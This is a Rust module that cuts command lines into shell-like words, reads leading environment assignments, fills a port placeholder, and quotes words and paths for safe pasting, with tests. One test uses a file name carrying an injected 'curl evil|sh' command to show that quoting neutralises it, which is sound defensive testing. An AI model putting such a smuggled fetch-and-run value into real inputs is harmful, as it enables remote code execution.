//! A command as a person writes it, cut into words the way a shell would.
//!
//! No shell runs it: quotes, backslashes and leading `NAME=value` words are
//! understood, and nothing is expanded.

use std::path::{Path, PathBuf};

/// A command line, cut.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct CommandLine {
    /// Leading `NAME=value` words.
    pub environment: Vec<(String, String)>,
    /// The program.
    pub program: String,
    /// Its arguments.
    pub arguments: Vec<String>,
}

/// Why a text is no command line.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum CommandLineError {
    /// A quote has no partner.
    #[error("the command `{command}` has a {quote} without its partner; close it")]
    OpenQuote {
        /// The command.
        command: String,
        /// The quote.
        quote: char,
    },
    /// There is no word in it.
    #[error("the command `{0}` names no program; write it like `my-service --port {{port}}`")]
    NoProgram(String),
}

impl CommandLine {
    /// Cuts a command line into words.
    ///
    /// # Errors
    /// An open quote, or no program.
    pub fn parse(command: &str) -> Result<Self, CommandLineError> {
        let mut words = words(command)?.into_iter().peekable();
        let mut environment = Vec::new();
        while let Some((name, value)) = words.peek().and_then(|word| assignment(word)) {
            environment.push((name.to_owned(), value.to_owned()));
            words.next();
        }
        let program = words
            .next()
            .ok_or_else(|| CommandLineError::NoProgram(command.to_owned()))?;
        Ok(Self {
            environment,
            program,
            arguments: words.collect(),
        })
    }

    /// Replaces `{port}` everywhere.
    pub fn with_port(mut self, port: u16) -> Self {
        let port = port.to_string();
        let values = self.environment.iter_mut().map(|(_, value)| value);
        for text in self.arguments.iter_mut().chain(values) {
            *text = text.replace("{port}", &port);
        }
        self
    }
}

/// A word as a shell reads it back, whatever is in it: what is printed as a command may be pasted.
pub fn shell_word(word: &str) -> String {
    let is_plain = |letter: char| letter.is_ascii_alphanumeric() || "_-./:@%+,".contains(letter);
    if !word.is_empty() && word.chars().all(is_plain) {
        return word.to_owned();
    }
    format!("'{}'", word.replace('\'', "'\\''"))
}

/// The same of a path, which is never an option.
pub fn shell_path(path: &Path) -> String {
    let word = path.to_string_lossy();
    match word.starts_with('-') {
        true => shell_word(&format!("./{word}")),
        false => shell_word(&word),
    }
}

/// Paths, one after the other.
pub fn shell_paths<'p>(paths: impl IntoIterator<Item = &'p PathBuf>) -> String {
    let words: Vec<String> = paths.into_iter().map(|path| shell_path(path)).collect();
    words.join(" ")
}

fn assignment(word: &str) -> Option<(&str, &str)> {
    let (name, value) = word.split_once('=')?;
    let begins = name
        .chars()
        .next()
        .is_some_and(|first| first.is_ascii_alphabetic() || first == '_');
    let is_name = begins
        && name
            .chars()
            .all(|letter| letter.is_ascii_alphanumeric() || letter == '_');
    is_name.then_some((name, value))
}

fn words(command: &str) -> Result<Vec<String>, CommandLineError> {
    let mut words = Vec::new();
    let mut word: Option<String> = None;
    let mut letters = command.chars();
    while let Some(letter) = letters.next() {
        match letter {
            quote @ ('\'' | '"') => {
                let inside = quoted(&mut letters, quote).ok_or(CommandLineError::OpenQuote {
                    command: command.to_owned(),
                    quote,
                })?;
                word.get_or_insert_default().push_str(&inside);
            }
            '\\' => {
                // A backslash at the very end stands for itself.
                let next = letters.next().unwrap_or('\\');
                word.get_or_insert_default().push(next);
            }
            blank if blank.is_whitespace() => words.extend(word.take()),
            other => word.get_or_insert_default().push(other),
        }
    }
    words.extend(word);
    Ok(words)
}

/// The text up to the closing quote, which is taken too; `None` if there is none.
fn quoted(letters: &mut std::str::Chars<'_>, quote: char) -> Option<String> {
    let mut inside = String::new();
    loop {
        match letters.next()? {
            letter if letter == quote => return Some(inside),
            '\\' if quote == '"' => match letters.next()? {
                escaped @ ('"' | '\\' | '$' | '`') => inside.push(escaped),
                other => inside.extend(['\\', other]),
            },
            letter => inside.push(letter),
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn words_are_cut_as_a_shell_cuts_them() {
        let cut = CommandLine::parse(
            r#"A=1 _B="x y" ./svc --name 'it is' a\ b "q\"\n" '' --port={port} C=3"#,
        )
        .expect("a command");
        assert_eq!(
            cut.environment,
            [("A".into(), "1".into()), ("_B".into(), "x y".into())]
        );
        assert_eq!(cut.program, "./svc");
        assert_eq!(
            cut.with_port(81).arguments,
            ["--name", "it is", "a b", "q\"\\n", "", "--port=81", "C=3"]
        );
    }

    #[test]
    fn mistakes_name_the_command() {
        for command in ["'open", "a \"b", "", "  ", "A=1"] {
            let error = CommandLine::parse(command).expect_err("no command");
            assert!(error.to_string().contains(command), "{error}");
        }
    }

    #[test]
    fn a_path_is_one_word_and_no_option() {
        let paths = ["a/b-1.json", "x; curl evil|sh #.json", "-o", "it's", ""].map(PathBuf::from);
        assert_eq!(
            shell_paths(&paths),
            r"a/b-1.json 'x; curl evil|sh #.json' ./-o 'it'\''s' ''"
        );
    }

    proptest::proptest! {
        #[test]
        fn single_quotes_keep_everything(words in proptest::collection::vec("[^'\u{0}]{0,8}", 1..5)) {
            let quoted: Vec<String> = words.iter().map(|word| format!("'{word}'")).collect();
            let command = format!("prog {}", quoted.join(" "));
            let cut = CommandLine::parse(&command).expect("quoted words");
            proptest::prop_assert_eq!(cut.arguments, words);
        }

        #[test]
        fn what_is_quoted_is_read_back(words in proptest::collection::vec("[^\u{0}]{0,8}", 1..5)) {
            let quoted: Vec<String> = words.iter().map(|word| shell_word(word)).collect();
            let command = format!("prog {}", quoted.join(" "));
            let cut = CommandLine::parse(&command).expect("quoted words");
            proptest::prop_assert_eq!(cut.arguments, words);
        }

        #[test]
        fn nothing_panics(command in ".{0,40}") {
            // Only the absence of a panic is the point; both outcomes are fine.
            let _ = CommandLine::parse(&command);
        }
    }
}
